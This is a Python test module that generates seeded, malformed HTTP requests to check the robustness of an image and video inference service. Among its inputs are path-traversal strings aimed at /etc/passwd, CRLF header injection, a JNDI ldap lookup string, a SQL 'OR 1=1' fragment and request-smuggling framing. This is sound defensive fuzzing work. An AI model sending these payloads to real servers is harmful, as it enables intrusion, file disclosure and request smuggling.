"""Requests that break HTTP, multipart, the query or the clock. Everything is drawn from the generator given."""

from __future__ import annotations

import random
import urllib.parse
from collections.abc import Callable
from dataclasses import dataclass

from reliability.hostile_images import IMAGE_KINDS, Draw, sound_images
from support.raw_http import request_bytes

SCORE, BATCH = "/v1/score", "/v1/score/batch"
GET_PATHS = ("/", "/docs.json", "/metrics", "/v2", "/v2/models", "/v2/models/tiny", "/readyz")


@dataclass(frozen=True, kw_only=True)
class Hostile:
    """A request: `parts` are sent `pause_s` apart; `hang_up`: then the caller goes without an answer.

    `owed`: it is a whole request, so silence and a connection closed without an answer are faults. Of others,
    many rightly leave the server waiting for more.
    """

    kind: str
    parts: tuple[bytes, ...]
    pause_s: float = 0.0
    hang_up: bool = False
    owed: bool = True


def hostile_request(seed: int, index: int) -> Hostile:
    """The request with this index: kinds take turns, everything else is drawn. The same arguments, the same bytes."""
    draw = random.Random(f"{seed}/{index}")
    kind = KINDS[index % len(KINDS)]
    return (_WAYS[kind] if kind in _WAYS else _image_way(kind))(draw)


def _image_way(kind: str) -> Callable[[Draw], Hostile]:
    def make(draw: Draw) -> Hostile:
        body = IMAGE_KINDS[kind](draw)
        way = draw.randrange(3)
        if way == 0:
            headers = [f"Content-Type: {draw.choice(('image/jpeg', 'image/png', 'application/octet-stream'))}"]
            return Hostile(kind=kind, parts=(request_bytes("POST", SCORE, body, headers),))
        if way == 1:
            return Hostile(kind=kind, parts=(multipart(SCORE, [("file", "a.jpg", body)]),))
        files = [
            ("files", str(i), body if i == 1 else draw.choice(sound_images())) for i in range(draw.randrange(2, 6))
        ]
        return Hostile(kind=kind, parts=(multipart(BATCH, files),))

    return make


def multipart(path: str, files: list[tuple[str, str, bytes]], boundary: bytes = b"XbX") -> bytes:
    """A well-formed multipart request; what is in it need not be."""
    parts = [
        b'--%s\r\nContent-Disposition: form-data; name="%s"; filename="%s"\r\n\r\n%s\r\n'
        % (boundary, field.encode(), name.encode(), data)
        for field, name, data in files
    ]
    body = b"".join(parts) + b"--" + boundary + b"--\r\n"
    return request_bytes("POST", path, body, [f"Content-Type: multipart/form-data; boundary={boundary.decode()}"])


def _content_type(draw: Draw) -> Hostile:
    value = draw.choice(
        (
            "multipart/form-data",
            "multipart/form-data; boundary=",
            "multipart/form-data; boundary=" + "b" * draw.choice((100, 5000)),
            'multipart/form-data; boundary="a b"',
            "multipart/form-data; boundary=\xe9\xff; charset=nowhere",
            "multipart/form-data; boundary=b; charset=utf-16",
            "multipart/mixed; boundary=b",
            "application/json",
            "application/x-www-form-urlencoded",
            "application/x-npy",
            "text/html; charset=\x7f",
            ";;;===,,,",
            "*/*",
            "x" * 8000,
        )
    )
    body = draw.choice((*sound_images()[:3], b"--b\r\n\r\nx\r\n--b--\r\n", b'{"a": [[[[' * 100, b""))
    path = draw.choice((SCORE, BATCH))
    return Hostile(kind="content-type", parts=(request_bytes("POST", path, body, [f"Content-Type: {value}"]),))


def _broken_multipart(draw: Draw) -> Hostile:
    image = draw.choice(sound_images())
    disposition = b'Content-Disposition: form-data; name="files"; filename="a"\r\n'
    whole = b"--b\r\n" + disposition + b"\r\n" + image + b"\r\n--b--\r\n"
    body = draw.choice(
        (
            whole.replace(b"--b--", b""),
            whole.replace(b"--b", b"--c"),
            whole.replace(b"\r\n", b"\n"),
            whole[: draw.randrange(len(whole))],
            b"--b\r\n" + b"X-Endless: 1\r\n" * draw.choice((100, 20_000)) + b"\r\nx\r\n--b--\r\n",
            b"--b\r\nX-Long: " + b"y" * draw.choice((5000, 300_000)) + b"\r\n\r\nx\r\n--b--\r\n",
            b"--b\r\n\r\nno disposition\r\n--b--\r\n",
            b'--b\r\nContent-Disposition: form-data; name="option"\r\n\r\nvalue\r\n--b--\r\n',
            b'--b\r\nContent-Disposition: form-data; filename="a"\r\n\r\nx\r\n--b--\r\n',
            b"--b\r\nContent-Disposition: " + b"form-data;" * 500 + b"\r\n\r\nx\r\n--b--\r\n",
            (b"--b\r\n" + disposition + b"\r\n\r\n") * draw.choice((2, 65, 3000)) + b"--b--\r\n",
            b'--b\r\nContent-Disposition: form-data; name="f"\r\n\r\n1\r\n' * draw.choice((9, 2000)) + b"--b--\r\n",
            b"--b\r\nContent-Type: multipart/mixed; boundary=c\r\n"
            + disposition
            + b"\r\n--c\r\n\r\nx\r\n--c--\r\n--b--\r\n",
            b"--b\r\nContent-Transfer-Encoding: base64\r\n" + disposition + b"\r\nAAAA\r\n--b--\r\n",
            whole.replace(b'"a"', b'"' + b"../" * 100 + b'etc/passwd"'),
            whole.replace(b'"a"', b'"\xff\xfe\0\x1b[31m"'),
            whole.replace(b'"a"', b'"' + b"n" * 100_000 + b'"'),
            whole + draw.randbytes(1000),
            b"--b--\r\n",
            b"\r\n" * 5000,
            b"-" * 10_000,
            b"",
        )
    )
    path = draw.choice((SCORE, BATCH))
    headers = ["Content-Type: multipart/form-data; boundary=b"]
    return Hostile(kind="multipart", parts=(request_bytes("POST", path, body, headers),))


def _headers(draw: Draw) -> Hostile:
    """Huge and strange headers. A server may close instead of answering, once it has read enough."""
    extra = draw.choice(
        (
            b"X-Big: " + b"a" * draw.choice((10_000, 60_000, 300_000)) + b"\r\n",
            b"X-Many: 1\r\n" * draw.choice((200, 5000)),
            b"Cookie: " + b"a=b; " * 5000 + b"\r\n",
            b"X-Request-Id: " + draw.randbytes(40).replace(b"\n", b"").replace(b"\r", b"") + b"\r\n",
            b"X-Folded: a\r\n b\r\n",
            b"X-Nul: a\0b\r\n",
            b"No colon here\r\n",
            b": no name\r\n",
            b"Authorization: Bearer " + b"k" * 5000 + b"\r\n",
            b"Authorization: Basic \xff\xff\r\n",
            b"traceparent: 00-zz-zz-zz\r\ntracestate: " + b"a=b," * 400 + b"\r\n",
            b"Expect: 100-continue\r\n",
            b"Expect: a miracle\r\n",
            b"Upgrade: websocket\r\nConnection: Upgrade\r\n",
            b"X-Forwarded-For: " + b"1.2.3.4, " * 500 + b"\r\n",
            b"Host: there\r\n",
            b"Range: bytes=0-1,5-\r\nIf-None-Match: *\r\n",
        )
    )
    body = sound_images()[1]
    head = b"POST /v1/score HTTP/1.1\r\nHost: here\r\nConnection: close\r\nContent-Length: %d\r\n" % len(body)
    return Hostile(kind="headers", parts=(head + extra + b"\r\n" + body,), owed=False)


def _framing(draw: Draw) -> Hostile:
    """Bodies whose length is told twice, wrongly or not at all."""
    body = sound_images()[1]
    n = len(body)
    length = b"Content-Length: %d\r\n" % n
    chunked = b"Transfer-Encoding: chunked\r\n"
    framed = b"%x\r\n%s\r\n0\r\n\r\n" % (n, body)
    headers, sent = draw.choice(
        (
            (length + chunked, framed),
            (chunked + length, body),
            (length + b"Content-Length: 1\r\n", body),
            (length + length, body),
            (b"Content-Length: -1\r\n", body),
            (b"Content-Length: 1e3\r\n", body),
            (b"Content-Length: 99999999999999999999\r\n", body),
            (b"Content-Length: %d\r\n" % (n + 1000), body),
            (b"Content-Length: +%d\r\n" % n, body),
            (b"Content-Length: 0x10\r\n", body),
            (chunked, b"zz\r\n" + body),
            (chunked, b"-5\r\n" + body),
            (chunked, b"ffffffffffffffffff\r\n" + body),
            (chunked, b"%x;ext=%s\r\n%s\r\n0\r\n\r\n" % (n, b"e" * 5000, body)),
            (chunked, b"".join(b"1\r\n%c\r\n" % byte for byte in body[:600]) + b"0\r\n\r\n"),
            (chunked, framed[:-2] + b"X-Trailer: 1\r\n" * 100 + b"\r\n"),
            (b"Transfer-Encoding: gzip, chunked\r\n", framed),
            (b"Transfer-Encoding: chunked, chunked\r\n", framed),
            (b"Transfer-Encoding: \x0bchunked\r\n", framed),
            (b"Content-Encoding: gzip\r\n" + length, body),
            (b"", body),
            (length, body + b"GET /metrics HTTP/1.1\r\nHost: here\r\n\r\n"),
        )
    )
    head = b"POST /v1/score HTTP/1.1\r\nHost: here\r\nConnection: close\r\n"
    return Hostile(kind="framing", parts=(head + headers + b"\r\n" + sent,), owed=False)


def _request_line(draw: Draw) -> Hostile:
    line = draw.choice(
        (
            b"GET / HTTP/0.9",
            b"GET / HTTP/3.7",
            b"GET /",
            b"PRI * HTTP/2.0",
            b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03",
            b"TRACE / HTTP/1.1",
            b"CONNECT example.test:443 HTTP/1.1",
            b"OPTIONS * HTTP/1.1",
            b"PURGE /v1/score HTTP/1.1",
            b"get /v2 HTTP/1.1",
            b"POST http://example.test/v1/score HTTP/1.1",
            b"GET /" + b"a" * draw.choice((3000, 70_000)) + b" HTTP/1.1",
            b"GET /%00%ff%2e%2e/ HTTP/1.1",
            b"GET /\xff\xfe HTTP/1.1",
            draw.randbytes(200),
            b"\r\n\r\n\r\nGET / HTTP/1.1",
            b" GET / HTTP/1.1",
        )
    )
    request = line + b"\r\nHost: here\r\nConnection: close\r\n\r\n"
    return Hostile(kind="request-line", parts=(request,), owed=False)


def _query(draw: Draw) -> Hostile:
    name = draw.choice(("pair", "operating_point", "evidence", "pear", "", "pair[]", "__class__"))
    value = draw.choice(
        (
            "%",
            "%zz",
            "%00",
            "%ff%fe",
            "../../etc/passwd",
            "..%2f..%2fetc",
            "tiny%0d%0aSet-Cookie:%20a=b",
            "<script>",
            "a" * 5000,
            "true&evidence=false",
            "true" + "&evidence=true" * 500,
            "'%20OR%201=1",
            "$%7Bjndi:ldap://example.test%7D",
            "%F0%9F%92%A9",
            "tiny;evidence=true",
            "1e999",
            urllib.parse.quote(draw.randbytes(50)),
        )
    )
    path = draw.choice((SCORE, BATCH))
    return Hostile(kind="query", parts=(request_bytes("POST", f"{path}?{name}={value}", sound_images()[1]),))


def _path(draw: Draw) -> Hostile:
    path = draw.choice(
        (
            "/v2/models/" + urllib.parse.quote(draw.randbytes(20)),
            "/v2/models/../../etc/passwd",
            "/v2/models/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "/v2/models/tiny/versions/" + "9" * 3000,
            "/v2/models/tiny%00",
            "/static_content/..%2f..%2f..%2fetc/passwd",
            "/static_content/%2e%2e/%2e%2e/etc/passwd",
            "//etc/passwd",
            "/v1/score/",
            "/v1//score",
            "/V1/SCORE",
            "/" + urllib.parse.quote(draw.randbytes(30)),
            "/?" + "a=b&" * 1000,
            draw.choice(GET_PATHS),
        )
    )
    method = draw.choice(("GET", "GET", "HEAD", "POST", "PUT", "DELETE", "PATCH", "OPTIONS"))
    return Hostile(kind="path", parts=(request_bytes(method, path, draw.choice((b"", b"x"))),))


def _infer(draw: Draw) -> Hostile:
    """The Open Inference Protocol's own route."""
    body = draw.choice(
        (
            b"",
            b"null",
            b"[]",
            b"{}",
            b"[" * 100_000,
            b'{"a":' * 50_000,
            b'{"inputs": null}',
            b'{"inputs": [{}]}',
            b'{"inputs": [{"name": "frames", "datatype": "UINT8", "shape": [1, 32, 32, 3], "data": []}]}',
            b'{"inputs": [{"name": "frames", "datatype": "UINT8", "shape": [-1, 32, 32, 3], "data": [1]}]}',
            b'{"inputs": [{"name": "frames", "datatype": "UINT8", "shape": [999999999999, 32, 32, 3], "data": [1]}]}',
            b'{"inputs": [{"name": "frames", "datatype": "UINT8", "shape": [0, 32, 32, 3], "data": []}]}',
            b'{"inputs": [{"name": "frames", "datatype": "FP32", "shape": [1], "data": [NaN, Infinity, 1e999]}]}',
            b'{"inputs": [{"name": "frames", "datatype": "BYTES", "shape": [1], "data": ["\\ud800"]}]}',
            b'{"inputs": [{"name": "frames", "datatype": "UINT8", "shape": "all", "data": {"a": 1}}]}',
            b'{"inputs": [{"name": "frames", "datatype": "UINT8", "shape": [1,2], "data": [[1], [2, 3]]}]}',
            b'{"inputs": [{"name": "frames", "datatype": "UINT8", "shape": [1], "data": [%s]}]}' % (b"9" * 5000),
            b'{"id": "%s", "inputs": 1, "outputs": 2, "parameters": 3}' % (b"i" * 5000),
            b'{"inputs": [{"name": "frames", "shape": [1, 32, 32, 3], "datatype": "UINT8", "parameters": '
            b'{"binary_data_size": 99999999}}]}',
            draw.randbytes(1000),
        )
    )
    extra = draw.choice(((), ("Inference-Header-Content-Length: 99999",), ("Inference-Header-Content-Length: -1",)))
    path = draw.choice(("/v2/models/tiny/infer", "/v2/models/tiny/versions/1.0.0/infer", "/v2/models/none/infer"))
    headers = ["Content-Type: application/json", *extra]
    return Hostile(kind="infer", parts=(request_bytes("POST", path, body, headers),))


def _video(draw: Draw) -> Hostile:
    """Uploads that are no videos, and jobs that do not exist."""
    body = draw.choice(
        (
            b"",
            b"no video",
            b"\0\0\0\x18ftypmp42" + draw.randbytes(500),
            b"\x1aE\xdf\xa3" + draw.randbytes(500),
            b"RIFF\xff\xff\0\0AVI LIST" + draw.randbytes(500),
            b'{"path": "../../etc/passwd"}',
            b'{"path": "/dev/zero"}',
            b'{"path": 7, "more": []}',
            b"[" * 60_000,
            b'{"path": "' + b"a/" * 50_000 + b'"}',
        )
    )
    kind = draw.choice(("video/mp4", "application/octet-stream", "application/json", "multipart/form-data; boundary=b"))
    query = draw.choice(
        ("", "?every_s=0", "?every_s=nan", "?every_s=-1e999", "?name=../../x", "?name=" + "n" * 3000, "?x=1")
    )
    key = draw.choice(((), (), ("Idempotency-Key: " + "k" * 500,), ("Idempotency-Key: \xff",)))
    if draw.random() < 0.5:
        return Hostile(
            kind="video", parts=(request_bytes("POST", "/v1/videos" + query, body, [f"Content-Type: {kind}", *key]),)
        )
    job = draw.choice(("none", "%2e%2e", "0" * 32, "a" * 3000, "%00"))
    what = draw.choice(("", "/result", "/files/findings.json", "/files/..%2f..%2fupload", "/files/%2fetc%2fpasswd"))
    path = draw.choice(
        (f"/v1/videos/{job}{what}", "/v1/videos?state=all", "/v1/videos?limit=0", "/v1/videos?before=-1")
    )
    return Hostile(kind="video", parts=(request_bytes(draw.choice(("GET", "DELETE")), path),))


def _gone(draw: Draw) -> Hostile:
    """Callers who leave in the middle of a request, or before its answer."""
    image = draw.choice(sound_images())
    request = draw.choice((request_bytes("POST", SCORE, image), multipart(BATCH, [("files", "a", image)] * 5)))
    cut = draw.choice((len(request), draw.randrange(len(request))))
    return Hostile(kind="gone", parts=(request[:cut],), hang_up=True, owed=False)


def _slow(draw: Draw) -> Hostile:
    """A sound request in small pieces; the deadline may end it."""
    request = request_bytes("POST", SCORE, sound_images()[1])
    step = max(1, len(request) // draw.choice((5, 20)))
    parts = tuple(request[start : start + step] for start in range(0, len(request), step))
    return Hostile(kind="slow", parts=parts, pause_s=draw.choice((0.01, 0.05)))


_WAYS: dict[str, Callable[[Draw], Hostile]] = {
    "content-type": _content_type,
    "multipart": _broken_multipart,
    "headers": _headers,
    "framing": _framing,
    "request-line": _request_line,
    "query": _query,
    "path": _path,
    "infer": _infer,
    "video": _video,
    "gone": _gone,
    "slow": _slow,
}

# Image bodies are what the service is for: three turns each, and for bombs; slow senders cost time, not thought.
KINDS: tuple[str, ...] = (*IMAGE_KINDS, *_WAYS, *IMAGE_KINDS, *[k for k in _WAYS if k != "slow"], *IMAGE_KINDS)
"""The kinds of hostile requests in the order of their turns."""
